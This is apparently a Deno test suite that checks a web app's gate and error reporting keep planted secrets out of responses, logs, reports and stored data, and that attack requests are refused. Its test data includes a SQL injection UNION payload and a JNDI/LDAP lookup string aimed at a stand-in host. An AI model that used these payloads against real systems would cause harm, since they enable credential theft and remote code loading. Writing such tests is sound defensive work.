/** Sixty kinds of real errors, and refused requests, with secrets on board, through the whole app. */
import { assert, assertEquals } from "@std/assert";
import { createFailures } from "../../routes/failure.ts";
import { createGate } from "../../routes/gate.ts";
import { createTestApp, peer, read } from "../_app.ts";
import { createFaultKv } from "../_fault_kv.ts";
import { caught, PROVOKED } from "../errors/_provoked.ts";

const PLANTED = /planted-secret|hunter2|eyJhbGciOi|ann@example\.org|q=private/i;
const KINDS_MIN = 60;

/** The same error, as it would come with somebody's secrets in its text. */
function withSecrets(thrown: unknown): unknown {
  if (!(thrown instanceof Error)) return thrown;
  const text = "https://api.test/v1?q=private&key=planted-secret for ann@example.org, " +
    "authorization: Bearer planted-secret-1234, https://bob:hunter2@db.test/x";
  return Object.assign(new Error(`${thrown.message} ${text}`, { cause: thrown }), {
    name: thrown.name,
  });
}

Deno.test("nothing secret is in an answer, a log line or a report", async () => {
  await using app = await createTestApp({ env: { LIMIT_STORE: "ip:100000/1m" } });
  const { services, logged } = app;
  const failures = createFailures(services);
  let kinds = 0;
  for (const { provoke } of PROVOKED) {
    const thrown = withSecrets(await caught(provoke));
    const site = {
      ...services.site,
      handle() {
        throw thrown;
      },
    };
    const gate = createGate({ ...services, site }, failures, () => new Response());
    const request = new Request("http://gate.example/x?q=private");
    const { text, status } = await read(await gate(request, peer("203.0.113.1")));
    assert(status >= 400 && !PLANTED.test(text), text);
    kinds++;
  }
  assert(kinds >= KINDS_MIN, `${kinds} kinds`);
  assert(!PLANTED.test(logged.join("\n")), logged.find((line) => PLANTED.test(line)));
  assert(!PLANTED.test(JSON.stringify(await services.errors.report())));
});

Deno.test("1,000 errors of one cause are one pattern", async () => {
  await using app = await createTestApp();
  const { errors } = app.services;
  for (let i = 0; i < 1_000; i++) {
    errors.note(new TypeError(`Cannot read order ${i} of user ${i * 7}`));
  }
  const { patterns, total } = await errors.report();
  assertEquals([patterns.length, total], [1, 1_000]);
});

const FORM_TYPE = "application/x-www-form-urlencoded";
const SECRET = "hunter2'||'x'='x'--9q";
const ATTACK = "1' UNION SELECT name, password FROM users--";

const post = (body: string, type = "application/json"): RequestInit => ({
  method: "POST",
  headers: { "content-type": type },
  body,
});
const header = (name: string, value: string): RequestInit => ({ headers: { [name]: value } });

/** Requests that are refused, with a secret in the attack or beside it. */
const REFUSED: readonly (readonly [path: string, init?: RequestInit])[] = [
  ["/x", post(JSON.stringify({ email: "ann@example.org", password: SECRET, q: ATTACK }))],
  ["/x", post(JSON.stringify({ users: [{ credentials: { pwd: SECRET } }], q: ATTACK }))],
  ["/x", post(`note: {"password":"${SECRET}"} ${ATTACK}`, "text/plain")],
  ["/x", post(`{"password":"${SECRET}","q":"${ATTACK}"}`, FORM_TYPE)],
  ["/x", post(String(new URLSearchParams({ "user[passwort]": SECRET, q: ATTACK })), FORM_TYPE)],
  ["/x", post(JSON.stringify({ [`ann@example.org ${ATTACK}`]: "x" }))],
  [`/x?contrase%C3%B1a=${encodeURIComponent(SECRET)}&q=${encodeURIComponent(ATTACK)}`],
  [`/x?q=${encodeURIComponent(`token=${SECRET} ${ATTACK}`)}`],
  ["/x", header("referer", `https://shop.test/x?pin=${encodeURIComponent(`${SECRET} ${ATTACK}`)}`)],
  ["/x", header("cookie", `connect.sid=${encodeURIComponent(`${SECRET} ${ATTACK}`)}`)],
  ["/x", header("x-api-key", `${SECRET} ${ATTACK}`)],
  ["/x", header("authorization", "Basic ${jndi:ldap://hunter2.example/a}")],
];

Deno.test("nothing secret of a refused request is in an event, a report, a log line or KV", async () => {
  const over = await Deno.openKv(":memory:");
  {
    await using app = await createTestApp({ rawKv: await createFaultKv({ over }) });
    const { incidents, errors, suspicion, blocks } = app.services;
    for (const [at, [path, init]] of REFUSED.entries()) {
      const answer = await app.ask(path, { ...init, from: `198.51.100.${at}` });
      assertEquals(answer.status, 403, path);
      assert(!PLANTED.test(answer.text), answer.text);
    }
    await Promise.all([incidents.flush(), suspicion.flush(), blocks.flush()]);
    const { items } = await incidents.events({ limit: 100 });
    assertEquals(items.length, REFUSED.length, "each has its event");
    assert(items.every(({ signals = [] }) => signals.length > 0));
    const kept = (await Array.fromAsync(over.list({ prefix: [] }))).map(({ key, value }) => [
      key,
      value,
    ]);
    const shown = [
      ...items,
      ...(await incidents.indicators({ limit: 100 })).items,
      await incidents.report({ from: 0, to: app.clock.now() }),
      await errors.report(),
      ...kept,
    ].map((value) => JSON.stringify(value));
    for (const text of [...shown, ...app.logged]) assert(!PLANTED.test(text), text);
  }
  over.close();
});
